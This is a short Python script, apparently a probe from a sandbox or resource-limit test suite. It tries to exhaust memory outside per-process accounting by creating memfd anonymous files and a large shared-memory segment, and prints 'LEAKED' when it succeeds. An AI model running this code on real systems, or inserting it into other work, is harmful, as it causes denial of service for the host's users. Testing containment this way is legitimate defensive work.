# %% [markdown] harm="takes all memory"
# Takes memory that belongs to no process: anonymous files, shared memory, a file system of its own.

# %% attack="last"
import ctypes
import os

kept = []
try:
    for _ in range(40):
        kept.append(os.memfd_create("hostile-mark"))
        os.write(kept[-1], bytes(2**26))
    print("LEAKED")
except OSError:
    pass
if ctypes.CDLL(None).shmget(0, 2**30, 0o1600) >= 0:
    print("LEAKED")
